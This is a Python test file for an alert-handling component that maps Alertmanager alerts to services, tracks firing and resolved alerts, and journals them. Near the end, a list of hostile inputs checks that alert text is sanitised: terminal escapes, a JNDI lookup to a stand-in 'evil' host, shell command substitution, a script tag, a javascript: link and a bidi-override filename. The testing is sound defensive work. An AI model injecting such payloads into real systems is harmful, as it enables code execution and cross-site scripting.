"""Alerts: which tell what of which service, what fires now, and what is made of their texts."""

from __future__ import annotations

import asyncio
from collections.abc import Mapping
from typing import Any

import pytest

from config.alerts import Alerts
from controller import alerts as alerts_module
from controller.alert_desk import MOST_RECORDS, AlertDesk, record_of
from controller.alert_evidence import MOST_LINES, evidence_of, with_alerts
from controller.alerts import Alert, AlertBox, Change, Firing, Meaning, alert_of, meaning_of
from controller.codes import CODES
from controller.report.timeline import describe
from model import events as ev
from model.diagnosis import Diagnosis, Evidence
from model.errors import JournalError
from model.events import Event
from tests.virtual_clock import VirtualClock, settle

SERVICES = ("orders", "billing")
RULES = Alerts.model_validate(
    {
        "service_label": "app",
        "rules": [
            {"match": {"severity": "none"}, "says": "ignore"},
            {"match": {"alertname": "PgDown", "job": "pg"}, "service": "orders", "says": "down"},
            {"match": {"alertname": "Works"}, "says": "up"},
        ],
        "forget_after": "60s",
    }
)


@pytest.mark.parametrize(
    ("labels", "meaning"),
    [
        ({"alertname": "PgDown", "job": "pg"}, Meaning("orders", "down")),
        ({"alertname": "PgDown", "job": "pg", "app": "billing"}, Meaning("orders", "down")),
        ({"alertname": "PgDown", "job": "pg", "severity": "none"}, None),
        ({"alertname": "PgDown", "job": "other"}, None),
        ({"alertname": "PgDown", "job": "other", "app": "billing"}, Meaning("billing", "warning")),
        ({"alertname": "Works", "app": "billing"}, Meaning("billing", "up")),
        ({"alertname": "Works", "app": "no such"}, None),
        ({"alertname": "Works"}, None),
        ({}, None),
    ],
)
def test_the_first_rule_that_matches_says_what_an_alert_tells(
    labels: Mapping[str, str], meaning: Meaning | None
) -> None:
    assert meaning_of(RULES, labels, SERVICES) == meaning


def alert(name: str = "Slow", *, firing: bool = True, key: str = "f1", **labels: str) -> Alert:
    said = {"alertname": name, "app": "orders", **labels}
    return alert_of(key, said, {"summary": f"{name} it is"}, firing=firing)


def box(clock: VirtualClock | None = None, rules: Alerts = RULES) -> AlertBox:
    return AlertBox(clock or VirtualClock(), rules, SERVICES)


def test_an_alert_fires_once_until_it_is_resolved() -> None:
    alerts = box()
    first = alerts.take([alert()])
    assert (first.accepted, first.ignored, len(first.changes)) == (1, 0, 1)
    assert alerts.take([alert()]).changes == ()
    assert [name for name, _sentence, _since in alerts.warnings("orders")] == ["Slow"]
    (ended,) = alerts.take([alert(firing=False)]).changes
    assert ended.ended == "resolved"
    assert alerts.firing() == []
    assert alerts.take([alert(firing=False)]).changes == ()
    assert alerts.received == 4


def test_one_that_tells_nothing_of_a_service_is_not_kept() -> None:
    alerts = box()
    taken = alerts.take([alert(app="another")])
    assert (taken.accepted, taken.ignored, taken.changes) == (0, 1, ())
    assert alerts.firing() == []


async def test_one_that_is_not_repeated_is_forgotten() -> None:
    clock = VirtualClock()
    alerts = box(clock)
    alerts.take([alert()])
    await clock.advance(50)
    alerts.take([alert()])
    await clock.advance(59)
    assert len(alerts.firing("orders")) == 1
    assert alerts.firing()[0].since_s == alerts.firing()[0].heard_s - 50
    await clock.advance(2)
    assert alerts.firing() == []
    assert [c.ended for c in alerts.expire()] == ["forgotten"]
    assert alerts.expire() == []


def test_no_more_are_kept_than_is_bounded(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(alerts_module, "MOST_ALERTS", 3)
    alerts = box()
    alerts.take(alert(key=f"f{n}") for n in range(3))
    alerts.take([alert(key="f0")])  # heard of again
    changes = alerts.take([alert(key="f9")]).changes
    assert [(c.firing.alert.fingerprint, c.ended) for c in changes] == [("f1", "no room"), ("f9", None)]
    assert {f.alert.fingerprint for f in alerts.firing()} == {"f0", "f2", "f9"}


def test_another_estate_understands_what_fires_anew() -> None:
    alerts = box()
    alerts.take([alert("PgDown", key="a", job="pg"), alert(key="b")])
    other = Alerts.model_validate({"rules": [{"match": {"alertname": "PgDown"}, "service": "billing"}]})
    changes = alerts.configure(other, ["billing"])
    assert [(c.firing.meaning, c.ended) for c in changes] == [
        (Meaning("orders", "down"), "remapped"),
        (Meaning("billing", "warning"), None),
        (Meaning("orders", "warning"), "remapped"),
    ]
    assert [f.alert.fingerprint for f in alerts.firing()] == ["a"]


# --- evidence


def diagnosis(code: str) -> Diagnosis:
    own = (Evidence("seen by ourselves", True),)
    return Diagnosis("orders", CODES[code], "pg1", True, 100.0, 99.0, None, own)


def fires(says: Any, name: str = "PgDown", key: str = "f") -> Firing:
    return Firing(alert(name, key=key), Meaning("orders", says), 40.0, 90.0)


@pytest.mark.parametrize(
    ("code", "says", "supports"),
    [
        ("PrimaryProcessDown", "down", True),
        ("PrimaryProcessDown", "up", False),
        ("PrimarySuspect", "down", True),
        ("EverythingUnknown", "up", False),
        ("Healthy", "down", False),
        ("Healthy", "up", True),
        ("StandbyDown", "down", False),
        ("AllStandbysDown", "up", True),
    ],
)
def test_an_alert_confirms_or_contradicts_what_was_found(code: str, says: str, supports: bool) -> None:
    told = with_alerts(diagnosis(code), [fires(says)], 100.0)
    assert told.evidence[0].text == "seen by ourselves"
    (said,) = told.evidence[1:]
    assert (said.supports, said.probe, said.age_ms) == (supports, "alertmanager", 10_000)
    assert said.text == f"alert PgDown says that it is {says}, since 1m: PgDown it is"


def test_a_warning_is_no_evidence() -> None:
    plain = diagnosis("Healthy")
    assert with_alerts(plain, [fires("warning")], 100.0) is plain


def test_a_flood_is_counted_and_not_listed() -> None:
    many = [fires("down", key=f"f{n}") for n in range(MOST_LINES + 7)]
    lines = evidence_of(diagnosis("Healthy"), many, 100.0)
    assert len(lines) == MOST_LINES + 1
    assert lines[-1].text == "7 more alerts say that it is down"


# --- records


class Journal:
    def __init__(self) -> None:
        self.written: list[tuple[str, dict[str, Any], str]] = []
        self.full = False

    async def append(self, type_: str, data: dict[str, Any], service: str) -> None:
        if self.full:
            raise JournalError("no room")
        self.written.append((type_, data, service))


async def test_what_begins_and_ends_is_recorded_once() -> None:
    journal, clock = Journal(), VirtualClock()
    desk = AlertDesk(box(clock), clock, journal.append)
    writer = asyncio.create_task(desk.run())
    desk.take([alert()])
    desk.take([alert()])
    desk.take([alert(firing=False)])
    await settle()
    assert [type_ for type_, _data, _service in journal.written] == [ev.ALERT_RECEIVED, ev.ALERT_RESOLVED]
    _type, data, service = journal.written[0]
    assert service == "orders"
    assert data == {
        "fingerprint": "f1",
        "name": "Slow",
        "says": "warning",
        "summary": "Slow it is",
        "labels": {"alertname": "Slow", "app": "orders"},
    }
    assert journal.written[1][1]["why"] == "resolved"
    writer.cancel()


async def test_a_storm_does_not_fill_the_journal_and_is_counted() -> None:
    journal, clock = Journal(), VirtualClock()
    desk = AlertDesk(box(clock), clock, journal.append)
    writer = asyncio.create_task(desk.run())
    desk.take(alert(key=f"f{n}") for n in range(300))
    await settle()
    assert len(journal.written) == MOST_RECORDS
    await clock.advance(61)
    journal.full = True
    desk.take([alert(key="no-room")])
    await settle()
    journal.full = False
    desk.take([alert(key="last")])
    await settle()
    assert len(journal.written) > MOST_RECORDS
    left_out = [d["unrecorded"] for _t, d, _s in journal.written if "unrecorded" in d]
    assert sum(left_out) + len(journal.written) == desk.box.received + 300  # the 300 were forgotten, too
    writer.cancel()


# --- texts that mean harm

HARM = [
    "\x1b[2J\x1b]0;owned\x07",
    "{{ 7 * 7 }} ${jndi:ldap://evil} $(id) `id`",
    "<script>alert(1)</script>",
    "line\nbreak\r\n| cell | [link](javascript:alert(1))",
    "\u202egnp.exe\u2066",
    "x" * 100_000,
    "\ud800",
]


@pytest.mark.parametrize("harm", HARM)
def test_texts_of_an_alert_are_one_short_plain_line_wherever_they_are_shown(harm: str) -> None:
    said = alert_of("f", {"alertname": harm, harm: harm}, {"summary": harm}, firing=True)
    firing = Firing(said, Meaning("orders", "down"), 0.0, 0.0)
    record = record_of(Change(firing, None))
    (line,) = evidence_of(diagnosis("Healthy"), [firing], 1.0)
    event = Event(
        1, 1, "w", "b", 0, "", None, ev.ALERT_RECEIVED, 1, "orders", None, None, "d", record, "", ""
    )
    shown = [line.text, describe(event), *record["labels"], *record["labels"].values()]
    for text in shown:
        assert text.isprintable()
        assert len(text) < 600
        text.encode()
    assert "49" not in line.text


def test_labels_are_matched_as_they_came_and_never_by_what_is_shown() -> None:
    rules = Alerts.model_validate({"rules": [{"match": {"a": "x\ny"}, "service": "orders", "says": "down"}]})
    assert meaning_of(rules, {"a": "x\ny"}, SERVICES) == Meaning("orders", "down")
    assert meaning_of(rules, {"a": "x y"}, SERVICES) is None
